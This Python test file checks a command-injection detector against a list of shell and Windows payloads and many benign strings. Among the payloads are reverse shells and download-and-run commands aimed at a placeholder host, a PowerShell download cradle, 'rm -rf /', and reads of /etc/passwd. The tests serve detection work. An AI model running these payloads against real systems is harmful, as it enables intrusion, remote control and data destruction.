"""Commands are told from texts that hold names of commands."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bavn.payloads.shell import command_injection
from tests.work import read_to_the_end

ATTACKS = (
    (";id", "command-after-separator"),
    ("|id", "command-after-separator"),
    ("||whoami", "command-after-separator"),
    ("&&whoami", "command-after-separator"),
    ("127.0.0.1;ls -la", "command-after-separator"),
    ("127.0.0.1 && cat /etc/passwd", "command-after-separator"),
    ("127.0.0.1 | nc 203.0.113.9 4444 -e /bin/sh", "command-after-separator"),
    ("`whoami`", "command-substitution"),
    ("$(whoami)", "command-substitution"),
    ("$(curl http://203.0.113.9/x)", "command-substitution"),
    ("x;wget http://203.0.113.9/x.sh -O /tmp/x.sh;sh /tmp/x.sh", "command-after-separator"),
    (";c'a't /etc/passwd", "spliced-command"),
    (";c\\at /etc/passwd", "spliced-command"),
    (";cat${IFS}/etc/passwd", "command-substitution"),
    (";cat$IFS$9/etc/passwd", "command-substitution"),
    (";{cat,/etc/passwd}", "spliced-command"),
    (";/???/??t /etc/passwd", "wildcard-command"),
    (";/bin/c?t /etc/p*", "wildcard-command"),
    (";w`u`hoami", "spliced-command"),
    (";who$@ami", "spliced-command"),
    (";$(printf 'whoami')", "command-substitution"),
    ('() { :;}; /bin/bash -c "id"', "shellshock"),
    (";bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "remote-shell"),
    (";echo aWQ= | base64 -d | sh", "command-after-separator"),
    (";python -c 'import os;os.system(\"id\")'", "command-after-separator"),
    (";perl -e 'system(\"id\")'", "command-after-separator"),
    (";rm -rf /", "command-after-separator"),
    ("a\nid", "command-after-separator"),
    ("x;sleep 5", "command-after-separator"),
    ("x|sleep 5", "command-after-separator"),
    ("x& ping -c 4 203.0.113.9 &", "command-after-separator"),
    ("$(sleep 5)", "command-substitution"),
    ("`sleep 5`", "command-substitution"),
    (";nslookup x.evil.example", "command-after-separator"),
    ("';id;'", "command-after-separator"),
    ('";id;"', "command-after-separator"),
    (");id;(", "command-after-separator"),
    ("x;uname -a", "command-after-separator"),
    ("/bin/cat /etc/passwd", "program-path"),
    ("cat /etc/passwd", "command-line"),
    ("ls -la /", "command-line"),
    ("cat /etc/passwd | grep root", "command-line"),
    ("cmd /c dir", "command-line"),
    ("cmd.exe /c whoami", "command-line"),
    ("& dir c:\\", "command-after-separator"),
    ("|dir", "command-after-separator"),
    ("&& type c:\\windows\\win.ini", "command-after-separator"),
    ("powershell -enc SQBFAFgA", "command-line"),
    (
        "powershell.exe -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\"",
        "remote-shell",
    ),
    ("w^h^o^am^i", "spliced-command"),
    (";Invoke-Expression $x", "cmdlet"),
    (";Get-ChildItem -Path C:\\", "cmdlet"),
    ("|certutil -urlcache -f http://203.0.113.9/a a.exe", "command-after-separator"),
    ("& net user", "command-after-separator"),
    ("&ipconfig", "command-after-separator"),
    ("& ipconfig /all", "command-after-separator"),
    ("x;$'\\x69\\x64'", "command-after-separator"),
    (";$'\\151\\144'", "command-after-separator"),
    ('<!--#exec cmd="ls" -->', "server-include"),
    (";exec 5<>/dev/tcp/203.0.113.9/80", "remote-shell"),
    (';eval "$(echo d2hvYW1p | base64 -d)"', "command-after-separator"),
    (";x=whoami;$x", "variable-command"),
    (";rev<<<dwssap", "command-after-separator"),
    ("<(curl http://203.0.113.9)", "command-substitution"),
    ("\nid\n", "command-after-separator"),
    ("x;/usr/bin/id", "program-path"),
    (";ping${IFS}-c${IFS}1${IFS}203.0.113.9", "command-substitution"),
    ("\nwget 203.0.113.9", "command-line"),
    ("| tee /var/www/x.php", "command-after-separator"),
    (";echo test > /tmp/x", "command-after-separator"),
    ("&&echo vulnerable", "command-after-separator"),
    (";cd /tmp;wget 203.0.113.9/mips;chmod 777 mips;./mips", "command-after-separator"),
    (";busybox wget http://203.0.113.9/a", "command-after-separator"),
    ("$(/bin/sh -c id)", "program-path"),
    (";cat$IFS/etc/hosts", "command-substitution"),
    ("x=$((1+1))", "command-substitution"),
    ("(){ :;}; id", "shellshock"),
    ("&diskpart /s x.txt", "command-after-separator"),
    ("|tasklist", "command-after-separator"),
    ('for /f "tokens=1" %i in (x) do echo %i', "batch-syntax"),
    ('if not "%x%" == "" (echo a)', "batch-syntax"),
    ("if exist c:\\x.txt (del c:\\x.txt)", "batch-syntax"),
    ("${SHELL} -c id", "variable-command"),
    (";a=id;$a", "variable-command"),
)

# Texts of the same signs that people send.
HONEST = (
    "cats & dogs; the movie",
    "who | what",
    "time and again",
    "id=5;name=x",
    "price<100",
    "R&D",
    "$100 (cash)",
    "find more",
    "php & mysql",
    "a; b",
    "`a; b`",
    "why does ls not work in cmd?",
    "how do I use curl -X POST with json",
    "rm & co",
    "Jensen & Sønner A/S",
    "Rock'n'roll; live at Tivoli",
    "O'Brien",
    "D'Angelo & the Vanguard",
    "the cat's meow; a dog's life",
    "Hvad koster et pas; og hvor lang tid tager det?",
    "Læs mere | Kommunen",
    "Find vej & parkering",
    "Borger.dk | Din side",
    "man; kvinde; barn",
    "at; og; men",
    "name;id;date",
    "id|name|who",
    "title|date|env",
    "sort=name|id",
    "a|b|c",
    "first;last",
    "red|green|blue",
    "filter=type:house;rooms:4",
    "utm_source=mail&utm_medium=cpc",
    "x=1&id",
    "Sankt Hans; bål & tale kl. 21",
    "free; no strings attached",
    "more; and more",
    "last | first",
    "sleep well; dream big",
    "sleep & dream",
    "host; guest; other",
    "type; of; thing",
    "echo & reverb",
    "time | 12:30",
    "date; 2024-01-01",
    "kill bill; volume 2",
    "sort; by price",
    "cut & paste",
    "copy & paste",
    "move; next",
    "head & shoulders",
    "tail; head",
    "test; 123",
    "set; match; game",
    "net; gross",
    "start; stop",
    "free & easy",
    "script; please",
    "node & npm",
    "bash scripting | tutorial",
    "linux | windows",
    "wget vs curl",
    "git & github",
    "make & model",
    "top | bottom",
    "nice; 5 stars",
    "history & culture",
    "users; groups",
    "Windows (XP); SP2",
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
    "curl/7.88.1",
    "Wget/1.21 (linux-gnu)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; .NET4.0C; .NET4.0E; rv:11.0) like Gecko",
    "python-requests/2.31.0",
    "and/or",
    "km/t",
    "Afd. 3 / 2. sal",
    "index.php",
    "https",
    "anna@example.com",
    "192.0.2.0/24",
    "$5*4$",
    "new Date()",
    "__init__ in python",
    "__main__",
    "user__name",
    "is_staff__exact",
    "if (a == b) return",
    "if x == y then print",
    "if you like it",
    "if not, then why",
    "for 50% in (all) sizes",
    "for sale in (Aarhus)",
    "public static void main(String[] args)",
    'System.out.println("hello")',
    "SGVsbG8gV29ybGQ=",
    "550e8400-e29b-41d4-a716-446655440000",
    "5 > 3 & 2 < 4",
    "a && b",
    "a || b",
    "!important",
    "x > /dev/null 2>&1",
    "50% off; today only",
    "100%",
    "Tom & Jerry | cartoon",
    "AT&T",
    "Q&A",
    "B&B; breakfast",
    "rød;grøn;blå",
    "kat; hund",
    "vi & jer",
    "Sort kaffe | 45 kr",
    "del & hersk",
    "ren; tør",
    "fra; til",
    "SELECT * FROM t WHERE `id`=5",
    "use `cat` to read",
    "what does `id` do",
    "`name`",
    "run `ls -la` please",
    "`code`",
    "$(this).hide()",
    "$(cash)",
    "$.ajax",
    "jQuery(document)",
    "a > b",
    "<b>bold</b>",
    "<p>text; more</p>",
    "&nbsp;date",
    "&lt;b&gt;",
    "Smith & Wesson; cat no. 5",
    "IF;BUT;THEN",
    "-n 5",
    "--help",
    "-v",
    "-rf",
    "cd",
    "pwd",
    "ls",
    "id",
    "cat breeding",
    "who is who",
    "date night",
    "ssh keys | documentation",
    "ping 10 ms",
    "ping google",
    "top 10",
    "top -10 film",
    "echo chamber",
    "mount everest",
    "less is more",
    "more 4 you",
    "type 2 diabetes",
    "type c.",
    "at 10:30",
    "find.",
    "sort -",
    "test -",
    "host 2024",
    "php 8.2",
    "perl 5",
    "python 3.11",
    "node 20",
    "mysql 8.0",
    "docker; kubernetes",
    "price; mail me at anna@example.com",
    "call me; 12345678",
    "x;y;z",
    "1;2;3",
    "56.1629;10.2039",
    "55.67,12.56",
    "2024-01-01T00:00:00+01:00",
    "12:30|14:00",
    "09:00-17:00; closed",
    "Get-Started guide",
    "set-top box",
    "write-off rules",
    "start-up hjælp",
    "stop-motion film",
    "check-in/check-out",
    "New-York (state)",
    'add-on "premium"',
    "start-dato -5",
    "read-only $variable",
    "Import-moms (25%)",
    "test-drive | bmw",
    "jQuery36007891234_1699999999",
    "POLYGON((12.5 55.6, 12.6 55.7, 12.5 55.6))",
    "name eq 'Anna' and age gt 5",
    "startswith(name,'a')",
    "^abc.*$",
    "%%CACHEBUSTER%%",
    "$URL$",
    "_s-xclick",
    "index.php?option=com_content&view=article",
    "Mozilla/5.0 (iPhone) [FBAN/FBIOS;FBDV/iPhone12,1;FBMD/iPhone;FBSN/iOS;FBSV/15;FBSS/2;FBLC/da_DK;FBOP/5]",
    "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko)",
    "Dalvik/2.1.0 (Linux; U; Android 9; SM-G960F)",
    "Links (2.1; Linux 2.6; x)",
    "mig & dig",
    "til dig; dig 12",
    "su casa; su 2",
    "git clone https://git.example.com/x/y",
    "npm install; npm start",
    "docker run -it ubuntu",
    "kr. 50; pr. stk",
    "Anna <anna@example.com>; Bo <bo@example.com>",
    '"Jensen, Anna" <anna@example.com>',
    "kl. 8-16; fre 8-13",
    "a=1;b=2;c=3",
    "lat=55.6;lon=12.5",
    "text/html;charset=utf-8",
    'attachment; filename="x.pdf"',
    "max-age=0; path=/",
    "width=device-width, initial-scale=1",
    "SELECT name; FROM users",
    "for(;;)",
    "i++; j--",
    "x = y ? 1 : 0;",
    'printf("hello");',
    "def f(x): return x",
    "import os, sys",
    'print("hi")',
    'echo "hello"',
    "git & svn; docker",
    "$variable in php",
)


@pytest.mark.parametrize(("value", "because"), ATTACKS, ids=[value for value, _ in ATTACKS])
def test_an_attack_is_found_and_named(value: str, because: str) -> None:
    assert command_injection(value) == because


@pytest.mark.parametrize("value", HONEST)
def test_an_honest_text_is_left_alone(value: str) -> None:
    assert command_injection(value) is None


@settings(deadline=None, max_examples=150)
@given(st.text(max_size=200) | st.text(alphabet=";|&`$(){}'\\\" \nidcatl<>/?*^%=-", max_size=400))
def test_no_text_makes_it_raise(value: str) -> None:
    reason = command_injection(value)
    assert reason is None or reason.replace("-", "").isalpha()


HOSTILE = (";", "`", "id ", "cat a;", "$(", "l'", ";/b?*", "sudo ", "for /f ", "if a==", "\n", "a=b ", "echo 1 ", "{,")


@pytest.mark.parametrize("unit", HOSTILE)
def test_a_hostile_text_however_long_is_read_to_its_end(unit: str) -> None:
    read_to_the_end(command_injection, unit)


@pytest.mark.parametrize("name", ["id", "cat", "ls", "curl", "whoami", "find", "time", "php", "mysql", "sleep", "bash"])
@pytest.mark.parametrize("frame", ["{}", "what is {}", "{} and more", "the {}; and others", "a little {} | my site"])
def test_a_name_alone_never_suffices(name: str, frame: str) -> None:
    assert command_injection(frame.format(name)) is None


@pytest.mark.parametrize("before", ["", "x", "127.0.0.1", "a b", "'", '"', "x)"])
@pytest.mark.parametrize("separator", [";", "|", "||", "&&", "\n", "; ", " | "])
def test_the_same_command_is_found_behind_every_separator(before: str, separator: str) -> None:
    assert command_injection(f"{before}{separator}cat /etc/passwd") is not None


def test_a_command_behind_many_harmless_places_is_still_found() -> None:
    assert command_injection("a;" * 1500 + "cat /etc/passwd") == "command-after-separator"
    assert command_injection("id x;" * 150 + "cat /etc/passwd") == "command-after-separator"


@pytest.mark.parametrize("name", ["ls", "whoami", "id", "netstat"])
def test_a_bare_command_counts_behind_a_value_but_not_behind_a_sentence(name: str) -> None:
    assert command_injection(f"127.0.0.1;{name}") == "command-after-separator"
    assert command_injection(f"please read the manual; {name}") is None


PIECES = (
    *str.split(
        "; script < > | ` $( ) { } ' \" id cat if for %x in ( net user sudo a=b = && /etc/ -c \\ ^ $IFS /???/ "
        "get-item - #"
    ),
)


@settings(deadline=None, max_examples=300)
@given(st.lists(st.sampled_from((*PIECES, " ")), max_size=24).map("".join))
def test_no_order_of_its_own_words_and_signs_makes_it_raise(value: str) -> None:
    reason = command_injection(value)
    assert reason is None or reason.replace("-", "").isalpha()


@pytest.mark.parametrize(
    ("value", "because"), [(";script <", None), (";nc <x", "command-after-separator"), (";", None)]
)
def test_a_redirection_stands_in_for_an_argument(value: str, because: str | None) -> None:
    assert command_injection(value) == because
